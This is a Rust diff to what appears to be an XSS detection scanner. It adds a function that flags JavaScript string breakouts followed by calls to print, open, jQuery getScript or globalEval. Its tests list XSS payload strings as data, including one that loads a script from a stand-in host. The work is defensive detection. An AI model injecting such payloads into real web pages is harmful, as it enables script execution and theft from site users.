@@ -46,6 +46,75 @@ fn breakout_end(b: &[u8], q: usize) -> Option<usize> {
     }
 }
 
+/// Functions payloads call where dialogs are blocked or filtered: `print()`, `open(url)`,
+/// jQuery's `$.getScript(url)` and `$.globalEval(code)`. Code calls them everywhere, so they
+/// are no sinks of their own; only the first thing after a string breakout tells.
+const BREAKOUT_CALLS: [&str; 4] = ["print", "open", "getscript", "globaleval"];
+
+/// A string breakout whose code starts by calling one of [`BREAKOUT_CALLS`], directly or as a
+/// member (`'-print()-'`, `';top.print()//`, `'-$.getScript('//x')-'`).
+pub fn breakout_call(text: &str) -> Option<Hit> {
+    let b = text.as_bytes();
+    memchr::memchr(b'(', b)?;
+    let mut seen = [0usize; 3];
+    for q in memchr::memchr3_iter(b'\'', b'"', b'`', b).take(MAX_QUOTES) {
+        let kind = match b[q] {
+            b'\'' => 0,
+            b'"' => 1,
+            _ => 2,
+        };
+        seen[kind] += 1;
+        // A quote right after `(`, `[`, `=`, `,` or `:` opens a string of the value's own
+        // code (`print("- open(x)")`); a breakout's quote ends text.
+        let opens = q > 0 && matches!(b[q - 1], b'(' | b'[' | b'=' | b',' | b':');
+        if seen[kind] % 2 == 0 || opens {
+            continue;
+        }
+        let Some(name) = breakout_end(b, q).and_then(|from| called_first(b, from)) else {
+            continue;
+        };
+        let quote = b[q] as char;
+        return Some(Hit::new(
+            0.75,
+            format!("JS string breakout ({quote} then operator) then {name}()"),
+        ));
+    }
+    None
+}
+
+/// The one of [`BREAKOUT_CALLS`] called first at `from`: after spaces and `(`, a dotted path
+/// (`top.print`, `jQuery.globalEval`) whose last name is one of them, then its `(`.
+fn called_first(b: &[u8], from: usize) -> Option<&'static str> {
+    let mut i = from;
+    while i < b.len() && i < from + 8 && matches!(b[i], b' ' | b'(') {
+        i += 1;
+    }
+    let mut name = i..i;
+    for _ in 0..4 {
+        let s = i;
+        i += b[i..]
+            .iter()
+            .take(NEAR)
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
+            .count();
+        if i == s {
+            return None;
+        }
+        name = s..i;
+        if b.get(i) != Some(&b'.') {
+            break;
+        }
+        i += 1;
+    }
+    let (k, _) = skip_gap(b, i);
+    if b.get(k) != Some(&b'(') {
+        return None;
+    }
+    BREAKOUT_CALLS
+        .into_iter()
+        .find(|n| n.as_bytes().eq_ignore_ascii_case(&b[name.clone()]))
+}
+
 fn sink_near(sinks: &[Sink], from: usize) -> Option<&Sink> {
     sinks.iter().find(|s| s.at >= from && s.at <= from + NEAR)
 }
@@ -506,6 +575,30 @@ mod tests {
             "48e71;alert(1)//503466e3",
         ] {
             assert!(flags(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn breakouts_calling_functions_that_stand_in_for_alert() {
+        for t in [
+            "'-print()-'",
+            "';top.print()//",
+            "'-open('//x.example')-'",
+            "'-$.getScript('//x.example')-'",
+            "\";jQuery.globalEval(name)//",
+        ] {
+            assert!(breakout_call(t).is_some(), "{t}");
+        }
+        // Code of the value's own: strings it opens, calls not right after a breakout.
+        for t in [
+            "print('a' + b); open(f)",
+            "print(\"- open(x)\")",
+            "x = '%s'; print(x)",
+            "f = open('a.txt', 'r')",
+            "print(','.join(names)); print(n)",
+            "it's - printed (twice)",
+        ] {
+            assert!(breakout_call(t).is_none(), "{t}");
         }
     }
 
